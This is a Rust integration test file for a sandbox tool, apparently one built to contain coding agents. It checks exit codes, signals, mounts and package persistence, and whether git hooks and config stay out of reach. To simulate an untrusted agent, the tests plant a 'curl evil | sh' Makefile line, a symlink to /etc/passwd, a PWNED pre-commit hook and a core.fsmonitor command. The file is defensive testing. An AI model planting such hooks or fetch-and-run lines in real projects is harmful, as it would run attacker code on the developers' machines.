//! What a user relies on: exit codes, signals, terminals, ownership, mounts, persistence.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::io::{BufRead, BufReader, Write};
use std::os::unix::fs::MetadataExt;
use std::process::Stdio;
use std::time::{Duration, Instant};

use common::{paddock, stderr, stdout, unique};

// What must hold on the backends that share the host's kernel or gVisor's (vm.rs checks the
// same things in a VM).
on_ns_and_gvisor!(
    exit_codes_pass_through,
    signals_reach_the_command_and_nothing_survives,
    files_created_inside_belong_to_the_workspace_owner,
    read_only_mounts_are_read_only,
    installed_packages_persist_in_the_sandbox_layer_only,
    ls_reports_a_killed_supervisor_as_stopped,
    a_killed_supervisor_takes_the_sandbox_with_it,
    a_discarded_layer_skips_syncing_and_a_torn_one_starts_clean,
    a_discarded_sandbox_is_gone_when_its_run_ends,
);

fn the_trust_report_names_what_the_host_may_run(backend: &str) {
    let ws = common::workspace();
    std::fs::create_dir_all(ws.path().join(".git/hooks")).unwrap();
    std::fs::write(ws.path().join("Makefile"), "all:\n\ttrue\n").unwrap();
    std::fs::write(ws.path().join("untouched.sh"), "#!/bin/sh\n").unwrap();
    common::hand_over(ws.path());
    let name = unique("trust");
    let out = on(backend)
        .args(["run", "--backend", backend, "--name", &name, "-w"])
        .arg(ws.path())
        .args([
            "--",
            "sh",
            "-c",
            "printf 'all:\\n\\tcurl evil | sh\\n' > Makefile; \
             printf '#!/bin/sh\\nexit 0\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; \
             mkdir -p .github/workflows && echo on: push > .github/workflows/ci.yml; \
             echo tool > tool && chmod +x tool; ln -s /etc/passwd passwd-link; \
             echo notes > notes.txt",
        ])
        .output()
        .unwrap();
    assert!(out.status.success(), "{out:?}");
    let err = stderr(&out);
    for want in [
        "Makefile: build file",
        ".git/hooks/pre-commit: git hook",
        ".github/workflows/ci.yml: CI workflow",
        "tool: executable",
        "passwd-link: symlink leading out of the workspace (-> /etc/passwd)",
    ] {
        assert!(err.contains(want), "missing {want:?} in:\n{err}");
    }
    assert!(
        !err.contains("notes.txt") && !err.contains("untouched.sh"),
        "{err}"
    );
    let again = paddock().args(["trust", &name]).output().unwrap();
    assert!(
        stdout(&again).contains(".git/hooks/pre-commit: git hook"),
        "{again:?}"
    );
    let quiet = on(backend)
        .args(["run", "--backend", backend, "--name", &name, "-w"])
        .arg(ws.path())
        .args(["--", "true"])
        .output()
        .unwrap();
    assert!(!stderr(&quiet).contains("review them"), "{quiet:?}");
    let after = paddock().args(["trust", &name]).output().unwrap();
    assert!(stdout(&after).contains("changed nothing"), "{after:?}");
    common::remove(&name);
}

fn exit_codes_pass_through(backend: &str) {
    let ws = common::workspace();
    let sh = |ws: &std::path::Path, script: &str| common::sh_on(backend, ws, &[], script);
    assert_eq!(sh(ws.path(), "exit 7").status.code(), Some(7));
    assert_eq!(sh(ws.path(), "exit 0").status.code(), Some(0));
    assert_eq!(sh(ws.path(), "kill -KILL $$").status.code(), Some(137));
    let piped = sh(ws.path(), common::PIPE_ENDS_QUIETLY);
    assert_eq!(stderr(&piped), common::PIPE_ENDED_QUIETLY, "{piped:?}");
    let nf = sh(ws.path(), "exec /no/such/program");
    assert_eq!(nf.status.code(), Some(127));
    let missing = on(backend)
        .args(["run", "--rm", "--backend", backend, "-w"])
        .arg(ws.path())
        .args(["--", "no-such-command-xyz"])
        .output()
        .unwrap();
    assert_eq!(missing.status.code(), Some(127), "{missing:?}");
    assert!(
        stderr(&missing).contains("no-such-command-xyz: command not found"),
        "{missing:?}"
    );
}

/// `paddock` set up for `backend`.
fn on(backend: &str) -> std::process::Command {
    common::paddock_for(backend)
}

// Behaviour that must be the same on every backend (the vm backend's own checks of exit codes,
// streams, mounts, ownership and persistence are in vm.rs).
on_every_backend!(
    terminal_resize_and_ctrl_c,
    environment_is_not_inherited,
    the_trust_report_names_what_the_host_may_run,
    git_hooks_and_config_are_out_of_reach,
    the_images_directories_can_be_removed_and_renamed
);

/// What dpkg does to the image's tree (an upgrade, `apt-get remove`): directories of the image
/// removed, renamed and made again in the sandbox's layer. In user mode overlayfs needs its
/// `userxattr` option for this; without it these fail with EIO and EXDEV.
fn the_images_directories_can_be_removed_and_renamed(backend: &str) {
    let ws = common::workspace();
    let o = common::sh_on(
        backend,
        ws.path(),
        &["--no-network"],
        "cd /usr/share/doc && sudo rm -rf git && echo removed && sudo mkdir git && echo remade \
         && sudo mv less less.moved && echo renamed && sudo mkdir t.new && sudo mv t.new t \
         && echo new-renamed && test ! -e less && ls -d git less.moved t",
    );
    assert_eq!(
        stdout(&o),
        "removed\nremade\nrenamed\nnew-renamed\ngit\nless.moved\nt\n",
        "{}",
        stderr(&o)
    );
}

fn git(dir: &std::path::Path, args: &[&str]) -> std::process::Output {
    // The test's own look (as root) at a workspace that may be the suite user's.
    let out = std::process::Command::new("git")
        .args(["-c", "safe.directory=*", "-C"])
        .arg(dir)
        .args(args)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("HOME", dir)
        .output()
        .unwrap();
    assert!(out.status.success(), "git {args:?}: {out:?}");
    out
}

fn git_hooks_and_config_are_out_of_reach(backend: &str) {
    let ws = common::workspace();
    let w = ws.path();
    git(w, &["init", "-q", "."]);
    git(w, &["init", "-q", "sub"]);
    std::fs::create_dir(w.join("lib")).unwrap();
    std::fs::write(w.join("lib/.git"), "gitdir: ../.git\n").unwrap();
    let config_before = std::fs::read(w.join(".git/config")).unwrap();
    common::hand_over(w);
    let name = unique("gitguard");
    // Outside the workspace: what a config made inside would have the host's git touch.
    let marker = w.with_extension("owned");
    // Every way of getting a writable hooks directory or config the host's git would use.
    let script = format!(
        r#"
        git init -q made && git -C made config core.fsmonitor 'touch {marker}' &&
          git -C made remote add origin https://example.invalid/r.git && echo MADE-CONFIG
        git init -q --bare bare.git && git -C bare.git config core.hooksPath /tmp && echo BARE
"#,
        marker = marker.display()
    ) + r#"
        echo x > .git/hooks/pre-commit 2>/dev/null && echo HOOK-WRITTEN
        git config user.name evil 2>/dev/null && echo CONFIG-WRITTEN
        mv .git .git-old 2>/dev/null && echo GIT-MOVED
        ln -sfT /tmp .git 2>/dev/null && echo GIT-LINKED
        rm -rf .git/hooks 2>/dev/null; [ -d .git/hooks ] || echo HOOKS-REMOVED
        mv sub/.git sub/.git-old 2>/dev/null && echo SUB-MOVED
        echo x > sub/.git/hooks/post-checkout 2>/dev/null && echo SUB-HOOK-WRITTEN
        echo 'gitdir: /tmp' > lib/.git 2>/dev/null && echo GITFILE-WRITTEN
        git -c user.name=a -c user.email=a@b.c commit -q --allow-empty -m inside && echo COMMITTED
        git init -q fresh && printf '#!/bin/sh
echo PWNED
' > fresh/.git/hooks/pre-commit           && chmod +x fresh/.git/hooks/pre-commit && echo FRESH-HOOK
    "#;
    let out = on(backend)
        .args(["run", "--backend", backend, "--name", &name, "-w"])
        .arg(w)
        .args(["--", "sh", "-c", &script])
        .output()
        .unwrap();
    let said = stdout(&out);
    assert!(
        said.contains("COMMITTED")
            && said.contains("FRESH-HOOK")
            && said.contains("MADE-CONFIG")
            && said.contains("BARE"),
        "{out:?}"
    );
    for bad in ["WRITTEN", "MOVED", "LINKED", "REMOVED"] {
        assert!(!said.contains(bad), "{bad}: {out:?}");
    }
    // The repository still works on the host and holds the commit made inside.
    assert_eq!(std::fs::read(w.join(".git/config")).unwrap(), config_before);
    assert!(stdout(&git(w, &["log", "--format=%s"])).contains("inside"));
    // The hook planted in the repository made inside is disarmed, and said so.
    let mode = std::fs::metadata(w.join("fresh/.git/hooks/pre-commit"))
        .unwrap()
        .mode();
    assert_eq!(mode & 0o111, 0, "{mode:o}");
    assert!(
        stderr(&out).contains("fresh/.git/hooks/pre-commit: git hook written during the run"),
        "{out:?}"
    );
    let host = git(
        &w.join("fresh"),
        &[
            "-c",
            "user.name=a",
            "-c",
            "user.email=a@b.c",
            "commit",
            "--allow-empty",
            "-m",
            "host",
        ],
    );
    assert!(!format!("{host:?}").contains("PWNED"), "{host:?}");
    // The config made inside keeps its remote and loses what would run on the host (set aside
    // for review), in a bare repository too.
    git(&w.join("made"), &["status", "--short"]);
    assert!(
        !marker.exists(),
        "the host's git ran the sandbox's fsmonitor"
    );
    assert_eq!(
        stdout(&git(&w.join("made"), &["remote", "get-url", "origin"])).trim(),
        "https://example.invalid/r.git"
    );
    assert!(w.join("made/.git/config.paddock-review").exists());
    assert!(
        stderr(&out)
            .contains("made/.git/config: git config made or changed during the run: set aside")
            && stderr(&out).contains("dropped: core.fsmonitor"),
        "{out:?}"
    );
    let bare = std::fs::read_to_string(w.join("bare.git/config")).unwrap();
    assert!(!bare.to_lowercase().contains("hookspath"), "{bare}");
    // Asked for, the hooks are the agent's to write.
    let open = on(backend)
        .args([
            "run",
            "--rm",
            "--dangerously-allow-git-config",
            "--backend",
            backend,
            "--name",
            &name,
            "-w",
        ])
        .arg(w)
        .args([
            "--",
            "sh",
            "-c",
            "echo x > .git/hooks/pre-commit && echo HOOK-WRITTEN",
        ])
        .output()
        .unwrap();
    assert!(stdout(&open).contains("HOOK-WRITTEN"), "{open:?}");
}

fn environment_is_not_inherited(backend: &str) {
    common::ensure_image();
    let ws = common::workspace();
    let out = on(backend)
        .env("PADDOCK_TEST_HOST_SECRET", "leaked")
        .env("LANG", "C.UTF-8")
        .args(["run", "--rm", "--backend", backend, "-e", "GIVEN=yes", "-w"])
        .arg(ws.path())
        .args(["--", "env"])
        .output()
        .unwrap();
    let o = stdout(&out);
    assert!(!o.contains("leaked"), "{o}");
    assert!(
        o.contains("GIVEN=yes") && o.contains("LANG=C.UTF-8") && o.contains("HOME=/home/agent"),
        "{out:?}"
    );
}

fn wait_for_line(reader: &mut impl BufRead, want: &str) {
    let mut line = String::new();
    let deadline = Instant::now() + Duration::from_secs(30);
    while Instant::now() < deadline {
        line.clear();
        if reader.read_line(&mut line).unwrap() == 0 {
            panic!("output ended before {want:?}");
        }
        if line.contains(want) {
            return;
        }
    }
    panic!("no {want:?}");
}

fn signals_reach_the_command_and_nothing_survives(backend: &str) {
    common::ensure_image();
    let ws = common::workspace();
    // Unique per test run and backend: the ns and gvisor variants run at once, and the ns
    // check looks for the tag among all host processes.
    let tag = common::random_tag(800000);
    for (sig, name) in [(libc::SIGTERM, "TERM"), (libc::SIGINT, "INT")] {
        let sandbox = unique("signals");
        let mut child = on(backend)
            .args(["run", "--rm", "--backend", backend, "--name", &sandbox, "-w"])
            .arg(ws.path())
            .args(["--", "bash", "-c"])
            .arg(format!("trap 'echo got-{name}; exit 42' {name}; (sleep {tag} &); echo ready; while :; do sleep 0.1; done"))
            .stdout(Stdio::piped())
            .spawn()
            .unwrap();
        let mut out = BufReader::new(child.stdout.take().unwrap());
        wait_for_line(&mut out, "ready");
        // SAFETY: signalling our own child.
        unsafe { libc::kill(child.id() as i32, sig) };
        wait_for_line(&mut out, &format!("got-{name}"));
        assert_eq!(
            common::wait_within(&mut child, 60, "the signalled command").code(),
            Some(42)
        );
        // The orphaned `sleep` was in the sandbox's pid namespace: it is gone too (and on
        // gvisor, runsc and its processes).
        let survivors = common::leftovers(backend, &sandbox, &tag);
        assert!(
            survivors.is_empty(),
            "a sandbox process outlived the sandbox: {survivors:?}"
        );
    }
}

fn terminal_resize_and_ctrl_c(backend: &str) {
    common::ensure_image();
    let ws = common::workspace();
    let mut cmd = on(backend);
    cmd.args(["run", "--rm", "--backend", backend, "-w"])
        .arg(ws.path())
        .args([
            "--",
            "bash",
            "-c",
            "echo at-start $(stty size); tty; [ -t 0 ] && echo IS-A-TTY; read x; stty size; \
             sleep 100; echo NOT-INTERRUPTED",
        ]);
    let (mut child, mut m) = common::spawn_on_pty(cmd);
    let mut seen = String::new();
    common::read_until(&mut m, "IS-A-TTY", &mut seen);
    // The sandbox's terminal has this terminal's size before the command starts.
    assert!(seen.contains("at-start 24 80"), "{seen:?}");
    assert!(
        seen.contains("/dev/pts/0"),
        "the command's terminal is the sandbox's own pty: {seen:?}"
    );
    common::set_winsize(&m, 33, 77);
    std::thread::sleep(Duration::from_millis(200));
    m.write_all(b"go\r").unwrap();
    common::read_until(&mut m, "33 77", &mut seen);
    std::thread::sleep(Duration::from_millis(300));
    m.write_all(b"\x03").unwrap();
    let status = common::wait_within(&mut child, 60, "the command after Ctrl-C");
    assert_eq!(
        status.code(),
        Some(130),
        "Ctrl-C should interrupt the command: {seen:?}"
    );
    assert!(!seen.contains("NOT-INTERRUPTED"));
}

fn files_created_inside_belong_to_the_workspace_owner(backend: &str) {
    let ws = common::workspace();
    // As root, a workspace of anyone's; as a user, the user's own (the only kind it may share).
    let (uid, gid) = match common::suite_as_user() {
        Some(u) => (u.uid, u.gid),
        None => (4242, 4343),
    };
    std::os::unix::fs::chown(ws.path(), Some(uid), Some(gid)).unwrap();
    let out = common::sh_on(
        backend,
        ws.path(),
        &[],
        "id -u; touch made-by-agent; mkdir dir; stat -c %u:%g made-by-agent; stat -c %U . ",
    );
    assert!(out.status.success(), "{out:?}");
    let o = stdout(&out);
    assert!(o.starts_with("1000\n1000:1000\nagent"), "{o}");
    for name in ["made-by-agent", "dir"] {
        let m = std::fs::metadata(ws.path().join(name)).unwrap();
        assert_eq!((m.uid(), m.gid()), (uid, gid), "{name}");
    }
}

fn read_only_mounts_are_read_only(backend: &str) {
    let ws = common::workspace();
    let shared = common::workspace();
    std::fs::write(shared.path().join("config"), "cfg-value").unwrap();
    let spec = format!("{}:ro", shared.path().display());
    let out = common::sh_on(
        backend,
        ws.path(),
        &["--mount", &spec],
        &format!(
            "cat {d}/config; echo; touch {d}/new && echo WROTE; sudo touch {d}/new2 && echo WROTE; echo x >> {d}/config && echo WROTE; sudo rm {d}/config && echo WROTE; true",
            d = shared.path().display()
        ),
    );
    let o = stdout(&out);
    assert!(o.contains("cfg-value"), "{out:?}");
    assert!(!o.contains("WROTE"), "{out:?}");
    assert_eq!(
        std::fs::read_to_string(shared.path().join("config")).unwrap(),
        "cfg-value"
    );
    assert_eq!(std::fs::read_dir(shared.path()).unwrap().count(), 1);
}

fn installed_packages_persist_in_the_sandbox_layer_only(backend: &str) {
    common::ensure_image();
    let ws = common::workspace();
    let name = unique("persist");
    let other = unique("fresh");
    let run = |n: &str, script: &str| common::sh_named(backend, ws.path(), n, script);
    // A real package install: build a .deb inside and install it with dpkg as root.
    let install = run(
        &name,
        "set -e; d=$(mktemp -d); mkdir -p $d/pkg/DEBIAN $d/pkg/usr/local/bin; \
         printf 'Package: paddock-test-pkg\\nVersion: 1.0\\nArchitecture: all\\nMaintainer: t <t@t>\\nDescription: test\\n' > $d/pkg/DEBIAN/control; \
         printf '#!/bin/sh\\necho persisted\\n' > $d/pkg/usr/local/bin/paddock-test-tool; chmod 755 $d/pkg/usr/local/bin/paddock-test-tool; \
         dpkg-deb --root-owner-group --build $d/pkg $d/p.deb >/dev/null; sudo dpkg -i $d/p.deb >/dev/null; echo installed",
    );
    assert!(stdout(&install).contains("installed"), "{install:?}");
    let again = run(
        &name,
        "dpkg -s paddock-test-pkg | grep Status; paddock-test-tool",
    );
    assert!(
        stdout(&again).contains("install ok installed") && stdout(&again).contains("persisted"),
        "{again:?}"
    );
    let fresh = run(
        &other,
        "dpkg -s paddock-test-pkg >/dev/null 2>&1 && echo FOUND; true",
    );
    assert!(
        !stdout(&fresh).contains("FOUND"),
        "the package leaked into another sandbox"
    );
    let image_tool = common::home().join("images/default/rootfs/usr/local/bin/paddock-test-tool");
    assert!(!image_tool.exists(), "the package landed in the image");
    // reset: back to the clean image, workspace untouched.
    std::fs::write(ws.path().join("keep"), "k").unwrap();
    let reset = paddock().args(["reset", &name]).output().unwrap();
    assert!(reset.status.success(), "{reset:?}");
    let after = run(
        &name,
        "dpkg -s paddock-test-pkg >/dev/null 2>&1 && echo FOUND; cat keep",
    );
    assert!(
        !stdout(&after).contains("FOUND") && stdout(&after).contains('k'),
        "{after:?}"
    );
    for n in [&name, &other] {
        assert!(paddock().args(["rm", n]).output().unwrap().status.success());
    }
    let ls = stdout(&paddock().args(["ls", "--all", "--json"]).output().unwrap());
    assert!(!ls.contains(&name) && !ls.contains(&other), "{ls}");
}

fn ls_reports_a_killed_supervisor_as_stopped(backend: &str) {
    common::ensure_image();
    let ws = common::workspace();
    let name = unique("killed");
    let mut child = on(backend)
        .args(["run", "--backend", backend, "--name", &name, "-w"])
        .arg(ws.path())
        .args(["--", "sh", "-c", "echo ready; sleep 600"])
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let mut out = BufReader::new(child.stdout.take().unwrap());
    wait_for_line(&mut out, "ready");
    let ls = stdout(&paddock().args(["ls", "--all", "--json"]).output().unwrap());
    assert!(
        ls.contains(&format!("\"name\": \"{name}\"")) && ls.contains("\"running\""),
        "{ls}"
    );
    child.kill().unwrap();
    child.wait().unwrap();
    let v: serde_json::Value = serde_json::from_str(&stdout(
        &paddock().args(["ls", "--all", "--json"]).output().unwrap(),
    ))
    .unwrap();
    let row = v
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["name"] == name.as_str())
        .unwrap()
        .clone();
    assert_eq!(row["state"], "stopped", "{row}");
    // Without --all only running sandboxes are listed.
    let running = stdout(&paddock().args(["ls", "--json"]).output().unwrap());
    assert!(!running.contains(&name), "{running}");
    // It can be started again.
    let again = on(backend)
        .args(["run", "--backend", backend, "--name", &name, "-w"])
        .arg(ws.path())
        .args(["--", "true"])
        .output()
        .unwrap();
    assert!(again.status.success(), "{again:?}");
    common::remove(&name);
}

/// A `--rm` run's layer is mounted `volatile` (overlayfs then leaves its marker in the work
/// directory); a named run's is not. A `--rm` run whose supervisor was killed leaves a layer
/// that was never synced: the next start of that name starts from the clean image.
fn a_discarded_layer_skips_syncing_and_a_torn_one_starts_clean(backend: &str) {
    common::ensure_image();
    let ws = common::workspace();
    // Paddock's beside a plain layer (and overlayfs's own in it), and beside a size-limited
    // layer's image.
    let marker = |n: &str| {
        let dir = common::home().join("sandboxes").join(n);
        [
            dir.join("upper.volatile"),
            dir.join("work/work/incompat/volatile"),
            dir.join("layer.volatile"),
        ]
        .into_iter()
        .find(|m| m.exists())
        .unwrap_or_else(|| dir.join("no volatile marker"))
    };
    let kept = unique("kept");
    let out = common::sh_named(backend, ws.path(), &kept, "true");
    assert!(out.status.success(), "{out:?}");
    assert!(!marker(&kept).exists(), "a kept layer was mounted volatile");
    common::remove(&kept);

    let name = unique("discard");
    let mut child = on(backend)
        .args(["run", "--rm", "--backend", backend, "--name", &name, "-w"])
        .arg(ws.path())
        .args([
            "--",
            "sh",
            "-c",
            "echo torn > /var/tmp/layer-file; echo ready; sleep 600",
        ])
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let mut out = BufReader::new(child.stdout.take().unwrap());
    wait_for_line(&mut out, "ready");
    assert!(marker(&name).exists(), "a --rm run's layer is not volatile");
    child.kill().unwrap();
    child.wait().unwrap();
    // Killed: nothing removed the sandbox, and its layer keeps the marker.
    assert!(marker(&name).exists());
    let again = common::sh_named(
        backend,
        ws.path(),
        &name,
        "cat /var/tmp/layer-file 2>/dev/null || echo clean",
    );
    assert!(again.status.success(), "{again:?}");
    assert_eq!(stdout(&again).trim(), "clean", "{again:?}");
    assert!(!marker(&name).exists());
    common::remove(&name);
}

/// A `--rm` run's sandbox is gone from the list, and its name free, when the run ends; its
/// layer (removed in the background) follows without anything of the run left behind.
fn a_discarded_sandbox_is_gone_when_its_run_ends(backend: &str) {
    common::ensure_image();
    let ws = common::workspace();
    let name = unique("gone");
    let sandboxes = common::home().join("sandboxes");
    let renamed = || -> Vec<String> {
        std::fs::read_dir(&sandboxes)
            .unwrap()
            .flatten()
            .map(|e| e.file_name().to_string_lossy().into_owned())
            .filter(|f| f.starts_with(&format!(".rm-{name}-")))
            .collect()
    };
    // A layer of a few thousand files: its removal outlasts the run's end.
    let script = "mkdir /var/tmp/many && cd /var/tmp/many && seq 1 3000 | xargs touch && echo made";
    let run = on(backend)
        .args(["run", "--rm", "--backend", backend, "--name", &name, "-w"])
        .arg(ws.path())
        .args(["--", "sh", "-c", script])
        .output()
        .unwrap();
    assert!(run.status.success(), "{run:?}");
    assert_eq!(stdout(&run), "made\n");
    let listed = stdout(&paddock().args(["ls", "--all"]).output().unwrap());
    assert!(!listed.contains(&name), "{listed}");
    assert!(!sandboxes.join(&name).exists());
    // The name is free at once: the same name starts from the clean image.
    let again = common::sh_named(
        backend,
        ws.path(),
        &name,
        "ls /var/tmp/many 2>/dev/null | wc -l",
    );
    assert!(again.status.success(), "{again:?}");
    assert_eq!(stdout(&again).trim(), "0", "{again:?}");
    common::remove(&name);
    let deadline = Instant::now() + Duration::from_secs(120);
    while !renamed().is_empty() {
        assert!(Instant::now() < deadline, "left behind: {:?}", renamed());
        std::thread::sleep(Duration::from_millis(100));
    }
}

#[test]
fn pid_limit_holds_and_the_cgroup_namespace_is_the_sandbox_own() {
    require_root!();
    let ws = common::workspace();
    let out = common::sh_with(
        ws.path(),
        &["--pids", "32"],
        "grep -c 'pids:/$' /proc/self/cgroup; python3 -c '
import os, time
ok = 0
for i in range(64):
    try:
        if os.fork() == 0:
            time.sleep(3); os._exit(0)
        ok += 1
    except OSError:
        pass
print(\"forked\", ok)'",
    );
    let s = stdout(&out);
    assert!(
        s.starts_with("1\n"),
        "the cgroup namespace root must be the sandbox's cgroup: {s}"
    );
    let forked: u32 = s
        .lines()
        .find_map(|l| l.strip_prefix("forked "))
        .and_then(|n| n.trim().parse().ok())
        .unwrap_or_else(|| panic!("{s}{}", common::stderr(&out)));
    assert!(
        forked > 0 && forked < 32,
        "pids.max 32 let {forked} forks through"
    );
}

/// Killing the supervisor (SIGKILL, or a signal that arrives before it catches signals) ends
/// the sandbox: nothing of it keeps running without its supervisor.
fn a_killed_supervisor_takes_the_sandbox_with_it(backend: &str) {
    common::ensure_image();
    let ws = common::workspace();
    let tag = common::random_tag(700000);
    let name = unique("orphan");
    let beat = ws.path().join("beat");
    // A heartbeat in the workspace: the command is alive while the file keeps changing.
    let beating = || {
        let a = std::fs::read_to_string(&beat).unwrap_or_default();
        std::thread::sleep(Duration::from_millis(600));
        let b = std::fs::read_to_string(&beat).unwrap_or_default();
        !b.is_empty() && a != b
    };
    let mut child = on(backend)
        .args(["run", "--rm", "--backend", backend, "--name", &name, "-w"])
        .arg(ws.path())
        .args(["--", "sh", "-c"])
        .arg(format!(
            "i=0; while :; do i=$((i+1)); echo $i > beat; sleep 0.1; done # {tag}"
        ))
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let deadline = Instant::now() + Duration::from_secs(60);
    while !beating() {
        assert!(Instant::now() < deadline, "the sandbox did not start");
    }
    assert!(!common::leftovers(backend, &name, &tag).is_empty());
    child.kill().unwrap();
    child.wait().unwrap();
    let deadline = Instant::now() + Duration::from_secs(10);
    while beating() || !common::leftovers(backend, &name, &tag).is_empty() {
        assert!(
            Instant::now() < deadline,
            "the sandbox outlived its killed supervisor: {:?}",
            common::leftovers(backend, &name, &tag)
        );
    }
    // Removing it removes what the killed supervisor could not: its cgroups too.
    let rm = paddock().args(["rm", "-f", &name]).output().unwrap();
    assert!(rm.status.success(), "{rm:?}");
    let cgroups: Vec<_> = std::fs::read_dir("/sys/fs/cgroup")
        .unwrap()
        .flatten()
        .map(|h| h.path().join("paddock").join(&name))
        .chain([std::path::Path::new("/sys/fs/cgroup/paddock").join(&name)])
        .filter(|d| d.exists())
        .collect();
    assert!(cgroups.is_empty(), "{cgroups:?}");
}
